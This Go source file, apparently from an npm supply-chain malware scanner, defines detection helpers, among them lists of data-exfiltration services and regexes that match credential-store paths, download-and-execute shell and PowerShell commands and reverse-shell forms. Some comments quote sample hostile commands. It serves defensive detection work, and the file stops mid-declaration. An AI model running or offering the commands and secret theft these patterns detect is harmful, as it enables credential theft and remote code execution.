// Package rulekit holds the vocabulary rules share: iteration over code
// files, URL/host extraction, lists of exfiltration services and credential
// paths, and evidence helpers. It is pure data and functions.
package rulekit

import (
	"context"
	"encoding/base64"
	"net"
	"net/netip"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/jsast"
)

// File is a code file with its facts and role.
type File = analyze.CodeFile

// Code returns the target's analysable code files (not types); nothing
// once ctx has ended.
func Code(ctx context.Context, t *analyze.Target) []File {
	if ctx.Err() != nil {
		return nil
	}
	return t.Code()
}

// Names reports a file whose constants name a file of the package by
// base: the base itself, or a path ending in it ("patches/wallet.patch").
func Names(f *jsast.Facts, base string) bool {
	for _, s := range f.Strings {
		if s.Value == base || strings.HasSuffix(s.Value, "/"+base) {
			return true
		}
	}
	return false
}

// Ev builds one evidence item; decoded is dropped when equal to snippet.
func Ev(snippet, decoded, detail string) []finding.Evidence {
	e := finding.Evidence{Snippet: snippet, Detail: detail}
	if decoded != "" && !strings.Contains(snippet, decoded) {
		e.Decoded = jsast.Clean(decoded, 200)
	}
	return []finding.Evidence{e}
}

var urlRe = regexp.MustCompile(`(?i)\b(?:https?|wss?|ftp)://[^\s'"<>\x60]+`)

// URLs returns absolute URLs inside s.
func URLs(s string) []string {
	if !strings.Contains(s, "://") {
		return nil
	}
	return urlRe.FindAllString(s, 8)
}

// Host returns the lowercased host of a URL ("" if none).
func Host(u string) string {
	p, err := url.Parse(u)
	if err != nil {
		return ""
	}
	return strings.ToLower(p.Hostname())
}

// URLPath returns the path of a URL ("" if none).
func URLPath(u string) string {
	p, err := url.Parse(u)
	if err != nil {
		return ""
	}
	return p.Path
}

// PublicIP reports a routable literal IPv4/IPv6 host: not loopback,
// private, link-local, multicast or reserved. IPv6 addresses must lie in
// the global unicast block 2000::/3 (1080::8:800:200c:417a, ::2 and the
// retired 6bone's 3ffe:: are examples in URL tests, not hosts). The
// documentation blocks (203.0.113.0/24, 2001:db8::/32) count as public:
// examples and tests use them to stand for real servers.
func PublicIP(host string) bool {
	ip, err := netip.ParseAddr(strings.Trim(host, "[]"))
	if err != nil || ip.Zone() != "" || strings.HasSuffix(host, "::") {
		return false // not an address, or a bare IPv6 prefix
	}
	ip = ip.Unmap()
	if ip.IsLoopback() || ip.IsPrivate() || ip.IsUnspecified() || ip.IsLinkLocalUnicast() || ip.IsMulticast() {
		return false
	}
	for _, p := range reservedIP {
		if p.Contains(ip) {
			return false
		}
	}
	return ip.Is4() || globalUnicast.Contains(ip)
}

var globalUnicast = netip.MustParsePrefix("2000::/3")

// reservedIP are blocks no public server sits in (RFC 6890's registries):
// "this network", shared carrier NAT, IETF protocol assignments,
// benchmarking, the reserved class E, broadcast, the retired 6bone.
var reservedIP = func() (out []netip.Prefix) {
	for _, s := range []string{"0.0.0.0/8", "100.64.0.0/10", "192.0.0.0/24", "198.18.0.0/15", "240.0.0.0/4", "3ffe::/16"} {
		out = append(out, netip.MustParsePrefix(s))
	}
	return out
}()

// localIP reports an address of this machine or its private network.
func localIP(ip net.IP) bool {
	return ip.IsLoopback() || ip.IsPrivate() || ip.IsUnspecified() || ip.IsLinkLocalUnicast()
}

// LocalHost reports a host that is this machine or its private network:
// localhost, loopback, private and link-local addresses, names under
// .internal.
func LocalHost(host string) bool {
	h := strings.ToLower(strings.Trim(host, "[]"))
	if h == "localhost" || strings.HasSuffix(h, ".localhost") || h == "0.0.0.0" {
		return true
	}
	if strings.HasSuffix(h, ".internal") {
		// the private-use top-level domain: GCP's metadata service
		// (metadata.google.internal), a VPC's own names
		return true
	}
	ip := net.ParseIP(h)
	return ip != nil && localIP(ip)
}

// Hidden reports a spawn started detached with its output discarded or its
// window hidden: a process meant to outlive the caller unseen.
func Hidden(c jsast.Call) bool {
	for _, a := range c.Args[min(1, len(c.Args)):] {
		joined := strings.Join(a.Names, ",")
		if strings.Contains(joined, "detached") && (strings.Contains(joined, "stdio") || strings.Contains(joined, "windowsHide")) {
			return true
		}
	}
	return false
}

// exfilSuffixes are services commonly used to receive stolen data.
var exfilSuffixes = []string{
	"webhook.site", "pipedream.net", "pipedream.com", "requestbin.com", "requestbin.net", "requestcatcher.com", "hookbin.com",
	"beeceptor.com", "mockbin.org", "burpcollaborator.net", "oastify.com", "oast.fun", "oast.pro", "oast.live", "oast.site",
	"oast.online", "oast.me", "interact.sh", "interactsh.com", "dnslog.cn", "ceye.io", "canarytokens.com", "ngrok.io", "ngrok-free.app",
	"ngrok.app", "trycloudflare.com", "serveo.net", "loca.lt", "localtunnel.me", "pastebin.com", "paste.ee", "hastebin.com",
	"transfer.sh", "file.io", "anonfiles.com", "discord.com/api/webhooks", "discordapp.com/api/webhooks", "api.telegram.org",
	"ipfs.io", "free.beeceptor.com", "webhook.cool", "rbaskets.in", "eo1.in", "bin.sh", "hooks.slack.com",
}

// ExfilService names the exfiltration service a URL or host string points
// at ("" if none).
func ExfilService(s string) string {
	// the bot and webhook APIs by their paths, whatever host relays them
	if strings.Contains(s, "/bot") && telegramBotPath.MatchString(s) {
		return "api.telegram.org"
	}
	if strings.Contains(s, "/api/webhooks/") && discordWebhookPath.MatchString(s) {
		return "discord.com/api/webhooks"
	}
	if !exfilSet.In(s) {
		return ""
	}
	l := strings.ToLower(s)
	for _, suf := range exfilSuffixes {
		if strings.Contains(suf, "/") {
			if strings.Contains(l, suf) {
				return suf
			}
			continue
		}
		if i := strings.Index(l, suf); i >= 0 {
			// whole label match: start or preceded by '.', '/', '@'
			if i == 0 || strings.ContainsRune("./@", rune(l[i-1])) {
				end := i + len(suf)
				if end == len(l) || strings.ContainsRune("/:?#'\" ", rune(l[end])) {
					if suf == "ipfs.io" && (strings.HasPrefix(l[end:], "/ipfs/") || strings.HasPrefix(l[end:], "/ipns/") || strings.Trim(l[end:], "/'\"") == "") {
						// a gateway read of content by its hash (an ENS
						// avatar, NFT metadata), or the gateway's origin a
						// resolver reads from: reading, not sending
						continue
					}
					if strings.HasSuffix(l[:i], "*.") {
						// https://*.ngrok-free.app: a pattern of origins (a
						// CSP or CORS allow-list), not a destination
						continue
					}
					return suf
				}
			}
		}
	}
	return ""
}

// ChatService reports the chat services whose APIs need a credential in
// the URL or next to it (a bot token, a webhook's secret path): a client
// library names them without one.
func ChatService(svc string) bool {
	switch svc {
	case "api.telegram.org", "hooks.slack.com", "discord.com/api/webhooks", "discordapp.com/api/webhooks":
		return true
	}
	return false
}

// ChatCredential reports a string holding a chat service's credential: a
// Telegram bot token (alone or in a /bot… path), a Discord webhook's id
// and token, a Slack incoming webhook's secret path.
func ChatCredential(s string) bool {
	if len(s) > 4096 || !strings.ContainsAny(s, ":/") {
		return false
	}
	return chatCredential.MatchString(s)
}

// chatCredential matches a Telegram bot token (<bot id>:<secret>), and a
// Discord or Slack webhook URL with its id and secret path segments
// filled in.
var chatCredential = regexp.MustCompile(`(^|[^0-9A-Za-z])[0-9]{6,12}:[A-Za-z0-9_-]{30,}|/api/webhooks/[^/\s$]+/[^/\s$?#]+|hooks\.slack\.com/services/[^/\s$]+/[^/\s$]+/[^/\s$?#]+`)

// telegramBotPath is a Telegram Bot API call: /bot<id>:<token>/<method>.
var telegramBotPath = regexp.MustCompile(`/bot[0-9]{6,12}:[A-Za-z0-9_-]{30,}/[a-zA-Z]+`)

// discordWebhookPath is a Discord webhook: /api/webhooks/<id>/<token>.
var discordWebhookPath = regexp.MustCompile(`/api/webhooks/[0-9]{17,20}/[A-Za-z0-9_-]{60,}`)

// ipLookup are "what is my IP" services (recon).
var ipLookup = []string{"ipinfo.io", "api.ipify.org", "ifconfig.me", "ifconfig.co", "icanhazip.com", "ip-api.com", "checkip.amazonaws.com", "ipapi.co", "myexternalip.com", "wtfismyip.com", "ident.me", "api.myip.com", "ipwho.is", "geolocation-db.com", "ipgeolocation.io"}

// IPLookup names an IP/geo lookup service in s.
func IPLookup(s string) string { return ipLookupSet.Find(s) }

// trustedHosts serve legitimate binaries and packages. The project's own
// package registries come from its npm configuration (TrustedFor), never
// from this list.
var trustedHosts = []string{"github.com", "githubusercontent.com", "nodejs.org", "jsdelivr.net", "unpkg.com", "googleapis.com", "microsoft.com", "mozilla.org", "electronjs.org",
	"cloudfront.net", "amazonaws.com", "sentry.io", "cdn.azul.com", "apache.org", "python.org", "golang.org", "go.dev", "rust-lang.org",
	"chromium.org", "googlesource.com", "sharp.pixelplumbing.com", "libvips.org", "ziglang.org", "sourceforge.net",
	"w3.org"} // (its URLs are XML namespaces and specifications: http://www.w3.org/2000/svg)

// installerHosts publish the official shell installers of developer
// toolchains (curl -fsSL https://bun.sh/install | bash).
var installerHosts = []string{"bun.sh", "bun.com", "deno.land", "deno.com", "sh.rustup.rs", "rustup.rs", "get.docker.com", "brew.sh", "get.pnpm.io",
	"astral.sh", "install.python-poetry.org", "fnm.vercel.app", "get.volta.sh", "volta.sh", "get.sdkman.io", "nixos.org", "get.k3s.io",
	"foundry.paradigm.xyz", "ollama.com", "tailscale.com", "fly.io", "vercel.com", "railway.app", "supabase.com", "get.helm.sh", "nodejs.org"}

// OwnHost reports a host named after the package: its second-level label
// is the package's name or scope (bun.sh for bun, dotenvx.sh for
// @dotenvx/dotenvx). What a package fetches from there is its vendor's.
func OwnHost(t *analyze.Target, host string) bool {
	if t == nil {
		return false
	}
	m, _ := t.Manifest()
	if m == nil {
		return false
	}
	labels := strings.Split(strings.ToLower(strings.TrimSuffix(host, ".")), ".")
	if len(labels) < 2 {
		return false
	}
	label := labels[len(labels)-2]
	scope, name, scoped := strings.Cut(strings.ToLower(m.Name), "/")
	if !scoped {
		name, scope = scope, ""
	}
	scope = strings.TrimPrefix(scope, "@")
	return len(label) >= 3 && (label == name || label == scope)
}

// OwnInstaller returns the host of a shell installer command whose every
// host is the package's own (OwnHost): curl -fsSL https://bun.sh/install |
// bash in the bun package; "" otherwise.
func OwnInstaller(t *analyze.Target, cmd string) string {
	return everyHost(cmd, func(h string) bool { return OwnHost(t, h) })
}

// everyHost returns the first host cmd names when ok holds for every host
// it names; "" otherwise or when it names none.
func everyHost(cmd string, ok func(string) bool) string {
	first := ""
	for _, h := range commandHosts(cmd) {
		if !ok(h) {
			return ""
		}
		if first == "" {
			first = h
		}
	}
	return first
}

// commandHosts returns the hosts a shell command names: in URLs, and as
// bare host/path words (irm bun.sh/install.ps1).
func commandHosts(cmd string) []string {
	var out []string
	for _, w := range strings.Fields(cmd) {
		w = strings.Trim(w, `"'()[]`)
		if i := strings.Index(w, "://"); i >= 0 {
			if h := Host("https" + w[i:]); h != "" {
				out = append(out, h)
			}
		} else if slash := strings.IndexByte(w, '/'); slash > 0 && bareHost.MatchString(w[:slash]) {
			out = append(out, strings.ToLower(w[:slash]))
		}
	}
	return out
}

// bareHost matches a host name written without a scheme (bun.sh, not
// .git or ~/.config).
var bareHost = regexp.MustCompile(`^[A-Za-z0-9][A-Za-z0-9-]*(\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}$`)

// OfficialInstaller returns the host of a shell installer command when every
// host it names (URLs, and bare host/path words as in irm bun.sh/x.ps1)
// publishes a toolchain's official installer; "" otherwise.
func OfficialInstaller(cmd string) string {
	return everyHost(cmd, func(h string) bool { return hostIn(h, installerHosts) })
}

func hostIn(h string, list []string) bool {
	for _, t := range list {
		if h == t || strings.HasSuffix(h, "."+t) {
			return true
		}
	}
	return false
}

// AsksUser reports code that prompts on the terminal (readline, inquirer,
// prompts, enquirer) before it acts.
func AsksUser(f *jsast.Facts) bool {
	for _, im := range f.Imports {
		switch m := im.Module; {
		case m == "readline", m == "readline/promises", m == "inquirer", m == "prompts", m == "enquirer", strings.HasPrefix(m, "@inquirer/"), m == "@clack/prompts":
			return true
		}
	}
	return false
}

// Trusted reports a host on the trusted download list.
func Trusted(host string) bool { return hostIn(host, trustedHosts) }

// TrustedFor reports a host on the trusted download list or one of the
// target's package registries.
func TrustedFor(t *analyze.Target, host string) bool {
	return Trusted(host) || (t != nil && t.IsRegistryHost(host))
}

// ExternalURL returns the first URL in s whose host is neither this
// machine or its network nor trusted for t; "" if none.
func ExternalURL(t *analyze.Target, s string) string {
	for _, u := range URLs(s) {
		if h := Host(u); h != "" && !LocalHost(h) && !TrustedFor(t, h) {
			return u
		}
	}
	return ""
}

// SentHost returns the host of a request of the file to a constant URL (or
// hostname option, or host of a DNS query or socket) that is neither this
// machine's (the cloud metadata services are link-local) nor trusted; ""
// if the file makes none.
func SentHost(t *analyze.Target, f *jsast.Facts) string {
	for _, c := range f.Calls {
		if !IsNetCall(c) || len(c.Args) == 0 {
			continue
		}
		if u := ExternalURL(t, Text(c.Args[0])); u != "" {
			return Host(u)
		}
		switch Root(c.Callee) {
		case "dns", "dns/promises", "net", "tls", "dgram":
			// a bare host: dns.resolveTxt("c.example"), net.connect(443, "c.example")
			for _, a := range c.Args[:min(2, len(c.Args))] {
				if h := strings.ToLower(a.Value); a.Known && strings.Contains(h, ".") && !strings.ContainsAny(h, " /:") && !LocalHost(h) && !TrustedFor(t, h) {
					return h
				}
			}
		}
	}
	// a request's hostname option ({ hostname: "c.example" })
	for _, h := range f.HostProps {
		v := strings.ToLower(h.Value)
		if strings.Contains(v, "://") {
			v = Host(v)
		}
		v, _, _ = strings.Cut(v, "/")
		if strings.Contains(v, ".") && !LocalHost(v) && !TrustedFor(t, v) {
			return v
		}
	}
	return ""
}

// Last returns the last dotted segment of a callee.
func Last(callee string) string {
	if i := strings.LastIndexByte(callee, '.'); i >= 0 {
		return callee[i+1:]
	}
	return callee
}

// Root returns the first dotted segment of a callee.
func Root(callee string) string {
	r, _, _ := strings.Cut(callee, ".")
	return r
}

var netRoots = map[string]bool{"http": true, "https": true, "http2": true, "net": true, "tls": true, "dgram": true, "dns": true, "dns/promises": true, "axios": true, "node-fetch": true,
	"got": true, "request": true, "undici": true, "ws": true, "socket.io-client": true, "needle": true, "superagent": true, "phin": true, "cross-fetch": true,
	"telegraf": true, "node-telegram-bot-api": true, "nodemailer": true}

// IsNetCall reports calls that send or receive over the network: also a
// call of one of the file's senders whose first argument is a constant
// URL (req("https://…", opts, body) with req a request helper).
func IsNetCall(c jsast.Call) bool {
	if c.Sender && len(c.Args) > 0 && c.Args[0].Known && strings.Contains(c.Args[0].Value, "://") {
		return true
	}
	switch c.Callee {
	case "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "navigator.sendBeacon", "axios", "got", "request", "needle", "superagent", "$.ajax", "$.post", "$.get", "jQuery.ajax":
		return true
	}
	if strings.HasSuffix(c.Callee, ".sendBeacon") {
		return true
	}
	r := Root(c.Callee)
	if netRoots[r] {
		l := Last(c.Callee)
		switch l {
		case "get", "request", "post", "put", "patch", "connect", "createConnection", "lookup", "resolve", "resolve4", "resolve6", "resolveTxt",
			"resolveAny", "resolveCname", "send", "createSocket", "fetch", "default", r, "Socket", "WebSocket", "io", "Agent", "sendMail", "createTransport":
			return true
		}
		if c.Callee == r || strings.HasPrefix(l, "get") || strings.HasPrefix(l, "post") {
			return true
		}
	}
	return false
}

// IsSpawn reports process-spawning calls.
func IsSpawn(c jsast.Call) bool {
	switch c.Callee {
	case "Bun.spawn", "Bun.spawnSync", "Bun.$", "bun.spawn", "bun.spawnSync", "bun.$", "Deno.Command", "Deno.run":
		return true // Bun's and Deno's own process APIs
	}
	r := Root(c.Callee)
	if SpawnModule(r) {
		switch l := Last(c.Callee); {
		case ProcessMethod(l), l == "sync", l == "$", l == r:
			return true
		}
		return c.Callee == r
	}
	return false
}

// ProcessMethod reports the names child_process, execa and cross-spawn
// start processes by (exec, execSync, spawn, fork, execa…); not their
// ambiguous ones (sync, $).
func ProcessMethod(name string) bool {
	switch name {
	case "exec", "execSync", "execFile", "execFileSync", "spawn", "spawnSync", "fork", "execa", "execaSync", "execaCommand", "execaCommandSync":
		return true
	}
	return false
}

// SpawnModule reports a module that starts processes.
func SpawnModule(m string) bool {
	switch m {
	case "child_process", "cross-spawn", "execa", "shelljs", "sudo-prompt", "bun", "zx":
		return true
	}
	return false
}

// SpawnCommand returns the command text of a spawn call: its first
// argument's Text, followed by the argument list when the call takes one
// (spawn, execFile, execa, Bun.spawn's array).
func SpawnCommand(c jsast.Call) string {
	if len(c.Args) == 0 {
		return ""
	}
	if len(c.Args[0].List) > 0 && !c.Args[0].Known {
		return strings.Join(c.Args[0].List, " ") // Bun.spawn(["sh", "-c", "…"])
	}
	cmd := Text(c.Args[0])
	if len(c.Args) > 1 && len(c.Args[1].List) > 0 && takesArgv(c.Callee) {
		cmd += " " + strings.Join(c.Args[1].List, " ")
	}
	return cmd
}

// Program returns the command name a command line starts with,
// lowercased, without its directory or .exe: "/usr/bin/xclip -o" is
// "xclip".
func Program(cmd string) string {
	fs := strings.Fields(cmd)
	if len(fs) == 0 {
		return ""
	}
	p := fs[0]
	if i := strings.LastIndexAny(p, `/\`); i >= 0 {
		p = p[i+1:]
	}
	return strings.TrimSuffix(strings.ToLower(p), ".exe")
}

// RunsProgram reports a spawn of the file whose command runs prog (git,
// security…).
func RunsProgram(f *jsast.Facts, prog string) bool {
	for _, c := range f.Calls {
		if IsSpawn(c) && Program(SpawnCommand(c)) == prog {
			return true
		}
	}
	return false
}

// takesArgv reports a process call whose second argument is the
// argument list (exec and execSync take options there).
func takesArgv(callee string) bool {
	switch Last(callee) {
	case "spawn", "spawnSync", "execFile", "execFileSync", "fork", "execa", "execaSync", "sync":
		return true
	}
	return callee == "cross-spawn" || callee == "execa"
}

// Text returns what is known of an argument's text: its folded value, or
// its shape with the run-time parts as jsast.Hole
// (exec(`curl -d "${os.hostname()}" https://x.example`)); "" if neither.
func Text(a jsast.Arg) string {
	if a.Known {
		return a.Value
	}
	return a.Shape
}

// CodeArg returns the argument of an eval-like call that holds the code:
// Function's body is its last argument, everyone else's code the first.
// The call must have an argument.
func CodeArg(c jsast.Call) jsast.Arg {
	if c.Callee == "Function" || c.Callee == "Function.constructor" {
		return c.Args[len(c.Args)-1]
	}
	return c.Args[0]
}

var sensitiveStrongRe = regexp.MustCompile(`(?i)(\.ssh[/\\]id_[a-z0-9]+|\.aws[/\\]credentials|\.config[/\\]gcloud|\.azure(/|\\[^.\\])|\.kube[/\\]config|\.docker[/\\]config\.json|\.git-credentials|/etc/shadow|login data|local storage[/\\]leveldb|\bcookies\b.*(chrome|brave|edge)|(chrome|brave|edge|opera)[^/\\\n]{0,24}[/\\]+user data|wallet\.dat|electrum[/\\]wallets|exodus[/\\]exodus\.wallet|atomic[/\\]local storage|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa|ejbalbakoplchlghecdalmeeeajnimhm|keychain-db|\.bash_history|\.zsh_history|discord(canary|ptb)?[/\\]local storage|\.mozilla[/\\]firefox|key4\.db|logins\.json|\.solana[/\\]id\.json|\.ethereum[/\\]keystore|\.config[/\\]solana|` +
	// a CI runner's memory, where its secrets are (the tj-actions dump)
	`/proc/[^/\s]+/mem\b|runner\.worker|"?issecret"?\s*:\s*true|` +
	// cloud instance credentials and other machine tokens
	`/meta-data/iam/security-credentials|/computemetadata/v1/instance/service-accounts|` +
	`/var/run/secrets/kubernetes\.io/serviceaccount|\.config[/\\]gh[/\\]hosts\.yml|` +
	// other tools' logins and sessions: Terraform Cloud, Telegram
	// Desktop, 1Password, Bitwarden, Slack's cookies
	`\.terraform\.d[/\\]credentials\.tfrc\.json|telegram ?desktop[/\\]tdata|1password[/\\](data|[^/\\\n]*\.sqlite)|bitwarden[/\\]data\.json|slack[/\\]cookies|` +
	// AI coding assistants' logins (the s1ngularity campaign drove
	// their CLIs to search for secrets; their tokens are worth as much)
	`\.claude[/\\]\.credentials\.json|\.codex[/\\]auth\.json|\.gemini[/\\]oauth_creds\.json|github-copilot[/\\](apps|hosts)\.json)`)

// authorized_keys and known_hosts hold public keys and host names, not
// secrets: weak, like the directory.
var sensitiveWeakRe = regexp.MustCompile(`(?i)(^|[/\\~])\.npmrc\b|(^|[/\\~_])\.?netrc\b|(^|[/\\~])\.yarnrc|/etc/passwd\b|(^|[/\\~])\.ssh\b|\bauthorized_keys2?\b|\bknown_hosts\b`)

// SensitivePath classifies a string naming a credential store:
// 2 strong (keys, cloud credentials, browser/wallet stores), 1 weak
// (.npmrc, .netrc, /etc/passwd, ~/.ssh directory, its authorized_keys and
// known_hosts: configuration that HTTP and git clients read), 0 none.
func SensitivePath(s string) (int, string) {
	if len(s) > 4096 {
		s = s[:4096]
	}
	if !sensitiveSet.In(s) {
		return 0, ""
	}
	if m := sensitiveStrongRe.FindString(s); m != "" {
		return 2, m
	}
	if m := sensitiveWeakRe.FindString(s); m != "" {
		return 1, m
	}
	return 0, ""
}

var shellDangerRe = regexp.MustCompile(`(?i)((curl|wget|fetch)\b[^|;&]*\|\s*(sudo\s+)?(/usr)?(/bin/)?(ba|z|da)?sh\b|` +
	// piped into an interpreter that runs its input (no script named)
	`(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(/usr)?(/s?bin/|/local/bin/)?(node|nodejs|bun|deno|python[0-9.]*|perl|ruby|php)((\s+-[-\w=.]*)*\s*(-\s*)?)($|[;&|)"'\n])|(curl|wget)\b[^;&|\n]*\s(-o|-O|--output|--output-document)[\s=]*\S+[^;&|\n]*(;|&&)\s*(if\s[^;\n]{0,200};\s*then[\s;]+)?(chmod|sh\b|bash\b|\./|/\S+\s*($|[;&|])|\S+\.sh)|` +
	// PowerShell: a download saved with -OutFile, then started
	`\b(iwr|invoke-webrequest|curl|wget|start-bitstransfer)\b[^\n]*-(outfile|destination)\s+\S+[^\n]*(;|&&)\s*(&|start-process\b|start\b|\.\\)|powershell[^\n]*(-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20,}|iex|invoke-expression|downloadstring|downloadfile|invoke-webrequest|irm\b)|\biwr\b[^|]*\|\s*iex|certutil[^\n]*-(urlcache|decode)|bitsadmin[^\n]*/transfer|mshta\s+https?:|rundll32[^\n]*(javascript|http)|regsvr32[^\n]*/i:\s*https?:|msiexec[^\n]*/(i|package)\s+https?:|/dev/tcp/|\bnc\b[^\n]*-e\s|base64\s+(-d|--decode)[^|]*\|\s*(ba)?sh|` +
	// a GitHub Actions runner registered to someone's repository runs
	// whatever its workflows send (./config.sh --url … --token …)
	`\bconfig\.(sh|cmd)\b[^\n]*--(url|token)\b[^\n]*--(url|token)\b|` +
	// sh -c "$(curl ...)", eval "$(wget -O- ...)", source <(curl ...)
	`\b((ba|z|da)?sh\s+-c|eval|source|\.|node\s+(-e|--eval|-p|--print)|python[0-9.]*\s+-c|perl\s+-e|ruby\s+-e)\s+["']?(\$\(|<\(|` + "`" + `)\s*(curl|wget)\b|\b(ba|z)?sh\s+<\(\s*(curl|wget)\b|` +
	// python running what it downloads: urlopen(...).read() handed to a
	// shell or exec; cmake's file(DOWNLOAD) then execute_process
	`\b(urlopen|requests\.get)\([^\n]{0,400}\)[^\n]{0,200}(\bexec\(|subprocess\.|os\.system|os\.popen)|(\bexec\(|subprocess\.\w+\(|os\.system\()[^\n]{0,200}\b(urlopen|requests\.get)\(|` +
	`(?s:file\s*\(\s*DOWNLOAD\b.{0,600}execute_process\s*\()|` +
	// node -e "require('https').get(url, r => … eval(d))": an inline
	// script that runs what it fetches
	`\bnode(js)?(\.exe)?\s+(-e|--eval|-p|--print)[\s=]*[^\n]{0,800}(\bhttps?['"]?\s*\)\s*\.(get|request)\(|\bfetch\()[^\n]{0,1000}(\beval\(|\bFunction\(|\brunIn(This|New)?Context\(|\bnew\s+vm\.Script\()|` +
	// python -c "exec(base64.b64decode(...))": encoded code run inline
	`\bpython[0-9.]*\s+-c\s*["'][^"'\n]*\bexec\s*\([^\n]*(b64decode|decodebytes|unhexlify|zlib\.decompress))`)

// ShellDanger returns the dangerous fragment of a shell command, if any:
// download piped to a shell, PowerShell encoded/iex, LOLBins, reverse
// shells.
//
// A PowerShell -EncodedCommand whose script decodes (base64 of UTF-16LE)
// counts by what the script does: tools pass scripts that way to avoid
// quoting (dotenvx reads the Windows credential store so), droppers to
// hide iwr | iex. A script that runs strings, downloads or starts
// processes, or one run with a hidden window, stays dangerous.
func ShellDanger(cmd string) string {
	full := cmd[:min(len(cmd), 64<<10)] // an encoded script is decoded whole
	if len(cmd) > 8192 {
		cmd = cmd[:8192]
	}
	if !shellSet.In(cmd) {
		return ""
	}
	m := ""
	if strings.Contains(cmd, "&") {
		// a URL's query (?u=x&h=y) is no command separator; the match
		// is read from the command as written (the mask keeps lengths)
		if loc := shellDangerRe.FindStringIndex(queryAmp.ReplaceAllString(cmd, "${1}_$2")); loc != nil {
			m = cmd[loc[0]:loc[1]]
		}
	} else {
		m = shellDangerRe.FindString(cmd)
	}
	if m == "" && strings.Contains(cmd, "$(") {
		// curl "https://x/c/$(git config user.email | base64)" | sh: the
		// pipes of a command substitution are not the download's
		m = shellDangerRe.FindString(cmdSubst.ReplaceAllString(cmd, "X"))
	}
	if psEncodedRe.MatchString(m) {
		if enc := psEncodedRe.FindStringSubmatch(full); enc != nil {
			if script, ok := decodeUTF16Base64(enc[1]); ok {
				if PowerShellDanger(script) != "" || psSuspectRe.MatchString(script) || psHiddenRe.MatchString(full) {
					return m
				}
				// the script is harmless: whatever else the command does
				return ShellDanger(strings.Replace(full, enc[0], "", 1))
			}
		}
	}
	return m
}

// queryAmp matches the & between a URL's query parameters (x&h=), which
// the shell would take for running x in the background.
var queryAmp = regexp.MustCompile(`(\S)&(\w+=)`)

// cmdSubst matches a command substitution with no other inside it.
var cmdSubst = regexp.MustCompile(`\$\([^()]*\)`)

// psSuspectRe matches what an encoded PowerShell script has no honest
// reason to hide: running strings as code, downloading, starting
// processes, decoding more base64.
var psSuspectRe = regexp.MustCompile(`(?i)\b(iex|invoke-expression|downloadstring|downloadfile|downloaddata|webclient|invoke-webrequest|iwr|irm|invoke-restmethod|start-process|frombase64string|start-bitstransfer)\b`)

// psHiddenRe matches PowerShell asked to run without a window.
var psHiddenRe = regexp.MustCompile(`(?i)\s-w(indowstyle)?\s+hidden\b`)

// psEncodedRe matches PowerShell's encoded command and captures the
// base64 text.
var psEncodedRe = regexp.MustCompile(`(?i)-e(?:nc|ncodedcommand)?\s+([A-Za-z0-9+/=]{20,})`)

// decodeUTF16Base64 decodes PowerShell's -EncodedCommand argument: base64
// of UTF-16LE text, or of UTF-8 when the code's encoding was folded as
// such (Buffer.from(script, "utf16le") is folded as UTF-8).
func decodeUTF16Base64(s string) (string, bool) {
	b, err := base64.StdEncoding.DecodeString(s)
	if err != nil {
		return "", false
	}
	if len(b) >= 2 && b[1] != 0 && utf8.Valid(b) {
		return string(b), true
	}
	if len(b)%2 != 0 {
		return "", false
	}
	u := make([]uint16, len(b)/2)
	for i := range u {
		u[i] = uint16(b[2*i]) | uint16(b[2*i+1])<<8
	}
	return string(utf16.Decode(u)), true
}

// psCradleRe matches PowerShell that runs what it downloads, written in a
// .ps1 file (no "powershell" before it): iex over DownloadString or
// Invoke-WebRequest, a download piped to iex, an encoded command.
var psCradleRe = regexp.MustCompile(`(?i)\b(iex|invoke-expression)\b[^\n]*(downloadstring|invoke-webrequest|\biwr\b|\birm\b|invoke-restmethod)|` +
	`(downloadstring|invoke-webrequest|\biwr\b|\birm\b|invoke-restmethod)[^\n]*\|\s*(iex|invoke-expression)\b|` +
	`\b(powershell|pwsh)(\.exe)?\b[^\n]*\s-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20,}|` +
	// a download saved to a file, then started out of sight a few lines
	// further (browser installers start theirs in view and wait)
	`(?s:(downloadfile\s*\(|-outfile\b|start-bitstransfer\b).{0,1000}?\bstart-process\b[^\n]*-w(indowstyle)?\s+hidden)|` +
	// Defender told to skip a path or a program
	`\badd-mppreference\b[^\n]*-exclusion(path|process|extension)\b`)

// PowerShellDanger returns the fragment of a PowerShell script that
// downloads and runs code, if any.
func PowerShellDanger(script string) string {
	if len(script) > 1<<16 {
		script = script[:1<<16]
	}
	if m := ShellDanger(script); m != "" {
		return m
	}
	return psCradleRe.FindString(script)
}

// scriptVars is how a script language sets a variable to a constant on a
// line of its own and uses it, for expand.
type scriptVars struct {
	assign *regexp.Regexp // the name, then the value's alternatives
	ref    *regexp.Regexp
	name   func(string) string // the variable an assignment's name or a use names
	first  bool                // the first value given stands (branches set alternatives)
}

// expand returns script with the variables set to constants replaced by
// their values where other lines use them; the script as it is when it
// sets none. At most 64 variables of 64 KiB.
func (sv scriptVars) expand(script string) string {
	if !strings.Contains(script, "$") {
		return script
	}
	vals := map[string]string{}
	for _, m := range sv.assign.FindAllStringSubmatch(script, 64) {
		name, v := sv.name(m[1]), strings.Join(m[2:], "")
		if _, seen := vals[name]; len(v) > 64<<10 || seen && sv.first {
			continue
		}
		vals[name] = v
	}
	if len(vals) == 0 {
		return script
	}
	lines := strings.Split(script, "\n")
	for i, line := range lines {
		if sv.assign.MatchString(line) {
			continue
		}
		lines[i] = sv.ref.ReplaceAllStringFunc(line, func(ref string) string {
			if v, ok := vals[sv.name(ref)]; ok {
				return v
			}
			return ref
		})
	}
	return strings.Join(lines, "\n")
}

// psVars: $policy = 'JAB1AD0A…' and $policy (names ignore case; the last
// value given stands).
var psVars = scriptVars{
	assign: regexp.MustCompile(`(?m)^[ \t]*\$([A-Za-z_]\w*)[ \t]*=[ \t]*(?:'([^'\n]*)'|"([^"$\n]*)")[ \t]*;?[ \t\r]*$`),
	ref:    regexp.MustCompile(`\$[A-Za-z_]\w*`),
	name:   func(s string) string { return strings.ToLower(strings.TrimPrefix(s, "$")) },
}

// shVars: DL="curl -fsSL -o", CACHE=$HOME/.cache/x is none, and $DL or
// ${DL}.
var shVars = scriptVars{
